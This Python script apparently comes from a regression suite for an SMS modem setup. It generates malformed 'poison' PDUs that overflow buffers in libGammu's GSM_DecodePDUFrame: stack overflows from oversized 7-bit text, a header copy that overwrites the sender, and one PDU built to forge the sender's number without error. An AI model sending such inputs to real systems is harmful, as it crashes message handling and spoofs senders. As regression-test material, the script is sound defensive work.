#!/usr/bin/env python3
"""The poison PDUs of tests/regress/poison.sh, one "NAME HEX" a line:
SMSC address first, as AT+CMGR shows a PDU. Each is out of 3GPP TS
23.040's bounds where libGammu 1.42's GSM_DecodePDUFrame trusts it
(docs/modem.md, "Poison messages"); V is a valid report's PDU shape for
comparison (its text is given on the command line: V TEXT)."""

import sys

SCTS = '62207041000082'     # 2026-02-07 14:00:00 +07:00


def bcd(digits):
    if len(digits) % 2:
        digits += 'F'
    return ''.join(digits[i + 1] + digits[i] for i in range(0, len(digits), 2))


def addr(num):
    """An address field: international when it starts with '+'."""
    d = num.lstrip('+')
    return '%02X%s%s' % (len(d), '91' if num.startswith('+') else '81',
                         bcd(d))


def smsc(num='+62816124'):
    b = '91' + bcd(num.lstrip('+'))
    return '%02X' % (len(b) // 2) + b


def pack7(text):
    bits = nb = 0
    out = []
    for ch in text:
        bits |= (ord(ch) & 0x7f) << nb
        nb += 7
        while nb >= 8:
            out.append(bits & 0xff)
            bits >>= 8
            nb -= 8
    if nb:
        out.append(bits & 0xff)
    return ''.join('%02X' % b for b in out)


def ucs2(text):
    return ''.join('%04X' % ord(c) for c in text)


def pdus():
    p = {}
    # A: 170 7-bit characters (at most 160): GSM_DecodePDUFrame unpacks
    # them into output[161] on its stack.
    p['A'] = (smsc() + '04' + addr('+6281234567891') + '00' + '00' + SCTS +
              'AA' + pack7('A' * 170))
    # B: a user data header of 256 octets (UDHL 0xFF) in 10 octets of
    # 8-bit user data: copied into UDH.Text[140] and on over the
    # message's sender.
    p['B'] = (smsc() + '44' + addr('+6281234567892') + '00' + '04' + SCTS +
              '0A' + 'FF' + '00' * 9)
    # C: a status report with 170 7-bit characters after its TP-ST
    # (TP-PI 04: TP-UDL follows): the stack overflow of A.
    p['C'] = (smsc() + '06' + '07' + addr('+6281234567893') + SCTS + SCTS +
              '00' + '04' + 'AA' + pack7('C' * 170))
    # D: a SUBMIT with a relative validity period and 170 characters.
    p['D'] = (smsc() + '11' + '00' + addr('+6281234567894') + '00' + '00' +
              'A7' + 'AA' + pack7('D' * 170))
    # F: from +6281234567895, 8 septets of 7-bit user data whose header
    # claims 170 octets: libGammu copies on into the 0xFF padding after
    # the user data, which holds "+62811" in UCS-2 where the header copy
    # reaches the sender's number (UDH.Text[140], 4 ints, Number), and
    # returns no error: the message comes up "from +62811".
    forged = ucs2('+62811') + '0000'
    udhl = 156 + len(forged) // 2 - 1
    trail = 'FF' + '00' * (156 - 7 - 1) + forged
    p['F'] = (smsc('') + '44' + addr('+6281234567895') + '00' + '00' + SCTS +
              '08' + '%02X' % udhl + '00' * 6 + trail)
    return p


def main():
    if len(sys.argv) > 2 and sys.argv[1] == 'V':
        text = ' '.join(sys.argv[2:])
        print('V', smsc() + '04' + addr('+6281299990001') + '00' + '00' +
              SCTS + '%02X' % len(text) + pack7(text))
        return
    for k, v in pdus().items():
        print(k, v)


main()
